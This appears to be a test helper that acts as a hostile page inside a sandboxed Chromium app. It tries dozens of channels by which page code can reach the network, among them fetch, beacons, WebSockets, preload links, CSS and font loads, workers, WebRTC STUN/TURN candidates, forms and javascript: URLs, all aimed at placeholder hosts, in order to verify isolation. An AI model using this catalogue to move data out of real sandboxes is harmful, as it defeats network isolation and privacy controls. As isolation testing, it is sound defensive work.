/*
  A hostile page: every way known to us by which a page gets Chromium to look up a name or to send something. Runs inside the journal's
  page as one function (it can use nothing from outside itself). Each way asks for a host named after it, so that the capture tells
  which ones got through.
*/

/** @returns the names of the ways that were tried. */
export async function tryEveryWayOut(): Promise<readonly string[]> {
  type Any = Record<string, unknown>;
  type Maker = new (...args: readonly unknown[]) => Record<string, (...args: unknown[]) => unknown>;
  const page = window as unknown as Any;
  const address = '203.0.113.7';
  const host = (way: string) => `${way}.gone.example`;
  const web = (way: string) => `https://${host(way)}/x`;
  const create = (name: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    return element;
  };
  const add = (name: string, attributes: Record<string, string>, text = '') => {
    const element = create(name, attributes, text);
    (name === 'link' || name === 'meta' ? document.head : document.body).append(element);
    return element;
  };
  const link = (rel: string, way: string, more: Record<string, string> = {}) =>
    add('link', { rel, href: web(way), ...more });
  const make = (name: string, ...args: readonly unknown[]) => new (page[name] as Maker)(...args);
  // Text made trusted, so that not only the trusted types stand in its way.
  const asIs = (text: string) => text;
  const policy = (
    page['trustedTypes'] as { createPolicy: (name: string, rules: object) => Any }
  ).createPolicy('ways-out', { createHTML: asIs, createScript: asIs, createScriptURL: asIs });
  const trusted = (kind: string, text: string) => (policy[kind] as (given: string) => string)(text);
  const script = (text: string, more: Record<string, string> = {}) => {
    const element = create('script', more) as HTMLScriptElement;
    element.text = trusted('createScript', text);
    document.body.append(element);
  };
  const style = (text: string) => {
    add('style', {}, text);
    const sheet = new CSSStyleSheet();
    for (const rule of text.split('\n')) {
      if (!rule.startsWith('@import')) sheet.insertRule(rule);
    }
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };
  const blobOf = (text: string, type: string) => URL.createObjectURL(new Blob([text], { type }));
  // Nobody else holds them, and what is collected in the middle of a look-up never finishes it.
  const kept: unknown[] = [];
  page['kept'] = kept;
  const call = async (servers: readonly object[]) => {
    const connection = new RTCPeerConnection({
      iceServers: servers as RTCIceServer[],
      iceCandidatePoolSize: 2,
    });
    connection.createDataChannel('x');
    const offer = await connection.createOffer();
    await connection.setLocalDescription(offer);
    // Somebody who is there to be called, at an address and under a name.
    const answers = new RTCPeerConnection();
    kept.push(connection, answers);
    await answers.setRemoteDescription(offer);
    const answer = await answers.createAnswer();
    await answers.setLocalDescription(answer);
    await connection.setRemoteDescription(answer);
    for (const to of [address, host('webrtc-candidate')]) {
      await connection.addIceCandidate({
        candidate: `candidate:1 1 udp 2122260223 ${to} 50000 typ host`,
        sdpMid: '0',
      });
    }
  };
  const turn = { username: 'a', credential: 'b' };

  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(web('fetch')),
    'fetch-no-cors': () => fetch(web('fetch-no-cors'), { mode: 'no-cors', keepalive: true }),
    'fetch-address': () => fetch(`http://${address}/x`, { mode: 'no-cors' }),
    'fetch-address-v6': () => fetch('http://[2001:db8:99::7]/x', { mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', web('xhr'));
      request.send('x');
    },
    beacon: () => navigator.sendBeacon(web('beacon'), 'x'),
    websocket: () => new WebSocket(`wss://${host('websocket')}/x`),
    'websocket-address': () => new WebSocket(`ws://${address}/x`),
    webtransport: () => make('WebTransport', web('webtransport')),
    'event-source': () => new EventSource(web('event-source')),
    'dns-prefetch': () => link('dns-prefetch', 'dns-prefetch'),
    preconnect: () => link('preconnect', 'preconnect', { crossorigin: '' }),
    prefetch: () => link('prefetch', 'prefetch'),
    preload: () => link('preload', 'preload', { as: 'image' }),
    modulepreload: () => link('modulepreload', 'modulepreload'),
    stylesheet: () => link('stylesheet', 'stylesheet'),
    favicon: () => link('icon', 'favicon'),
    manifest: () => link('manifest', 'manifest'),
    'link-prerender': () => link('prerender', 'link-prerender'),
    speculation: () =>
      script(JSON.stringify({ prerender: [{ source: 'list', urls: [web('speculation')] }] }), {
        type: 'speculationrules',
      }),
    image: () => Object.assign(new Image(), { src: web('image') }),
    'image-set': () => add('img', { srcset: `${web('image-set')} 1x` }),
    'svg-image': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', web('svg-image'));
      svg.append(image);
      document.body.append(svg);
    },
    'css-url': () => style(`body::before { content: url(${web('css-url')}); }`),
    'css-import': () => style(`@import url(${web('css-import')});`),
    'css-font': () =>
      style(
        `@font-face { font-family: gone; src: url(${web('css-font')}); }\nbody { font-family: gone; }`,
      ),
    'font-face': () => new FontFace('away', `url(${web('font-face')})`).load(),
    script: () => {
      const element = document.createElement('script');
      element.src = trusted('createScriptURL', web('script'));
      document.body.append(element);
    },
    'inline-script': () => script(`fetch('${web('inline-script')}')`),
    frame: () => add('iframe', { src: web('frame') }),
    'frame-document': () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = trusted('createHTML', `<img src="${web('frame-document')}">`);
      document.body.append(frame);
    },
    object: () => add('object', { data: web('object') }),
    embed: () => add('embed', { src: web('embed') }),
    webview: () => add('webview', { src: web('webview') }),
    audio: () => new Audio(web('audio')).play(),
    'video-poster': () => add('video', { poster: web('video-poster'), src: web('video') }),
    worker: () => new Worker(trusted('createScriptURL', web('worker'))),
    'shared-worker': () => new SharedWorker(trusted('createScriptURL', web('shared-worker'))),
    'blob-worker': () =>
      new Worker(
        trusted(
          'createScriptURL',
          blobOf(
            `fetch('${web('blob-worker')}'); importScripts('${web('blob-import')}')`,
            'text/javascript',
          ),
        ),
      ),
    'service-worker': () =>
      navigator.serviceWorker.register(trusted('createScriptURL', web('service-worker'))),
    import: () => {
      // Spelled apart, or the builder of the tests would look for it.
      script(`import('${web('import')}')`, { type: 'module' });
    },
    ping: () => {
      const anchor = create('a', { href: '#/today', ping: web('ping') });
      document.body.append(anchor);
      anchor.click();
    },
    popup: () => window.open(web('popup')),
    'popup-empty': () => {
      const opened = window.open('about:blank');
      if (opened !== null)
        opened.document.body.innerHTML = trusted('createHTML', `<img src="${web('popup-empty')}">`);
    },
    'link-elsewhere': () => {
      const anchor = create('a', { href: web('link-elsewhere'), target: '_blank' });
      document.body.append(anchor);
      anchor.click();
    },
    download: () => {
      const anchor = create('a', { href: web('download'), download: 'x' });
      document.body.append(anchor);
      anchor.click();
    },
    'stun-name': () => call([{ urls: `stun:${host('stun-name')}:3478` }]),
    'stun-address': () => call([{ urls: `stun:${address}:3478` }]),
    'stun-address-v6': () => call([{ urls: 'stun:[2001:db8:99::7]:3478' }]),
    'turn-name': () => call([{ urls: `turn:${host('turn-name')}:3478?transport=udp`, ...turn }]),
    'turn-address': () => call([{ urls: `turn:${address}:3478?transport=udp`, ...turn }]),
    'turn-tcp': () => call([{ urls: `turn:${address}:3478?transport=tcp`, ...turn }]),
    'turn-tls': () => call([{ urls: `turns:${host('turn-tls')}:443?transport=tcp`, ...turn }]),
    spelling: () => {
      const field = add('div', { contenteditable: 'true', spellcheck: 'true', lang: 'en' });
      field.focus();
      (Reflect.get(document, 'execCommand') as (...how: unknown[]) => void).call(
        document,
        'insertText',
        false,
        'helo wrold speling ',
      );
    },
    place: () => navigator.geolocation.getCurrentPosition(() => undefined),
    speech: () => make('webkitSpeechRecognition')['start']?.(),
    presentation: () => make('PresentationRequest', [web('presentation')])['start']?.(),
    payment: () =>
      make('PaymentRequest', [{ supportedMethods: web('payment') }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      })['canMakePayment']?.(),
    credential: () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: web('credential'), clientId: 'x' }] },
      } as CredentialRequestOptions),
    'protocol-handler': () =>
      (
        page['navigator'] as { registerProtocolHandler: (...args: string[]) => void }
      ).registerProtocolHandler('web+x', `${web('protocol-handler')}?%s`),
    form: () => {
      const form = add('form', { action: web('form'), method: 'post' }) as HTMLFormElement;
      form.submit();
    },
    'form-elsewhere': () => {
      const form = add('form', { action: web('form-elsewhere'), target: '_blank' });
      (form as HTMLFormElement).submit();
    },
    refresh: () => add('meta', { 'http-equiv': 'refresh', content: `0; url=${web('refresh')}` }),
    base: () => {
      const base = create('base', { href: web('base') });
      document.head.append(base);
      add('img', { src: 'from-the-base.png' });
      base.remove();
    },
    location: () => window.location.assign(web('location')),
    'location-script': () =>
      window.location.assign(`javascript:fetch('${web('location-script')}')`),
  };

  const tried: string[] = [];
  for (const [way, go] of Object.entries(ways)) {
    // The driver's own turn may do what a script of the page may not: hence one of the page's.
    await new Promise<void>((done) => {
      setTimeout(() => {
        tried.push(way);
        try {
          // Refused is as good as never answered: what counts is what the cable carries.
          const going = go();
          kept.push(going);
          Promise.resolve(going).catch(() => undefined);
        } catch {
          // Refused on the spot.
        }
        done();
      });
    });
  }
  return tried;
}
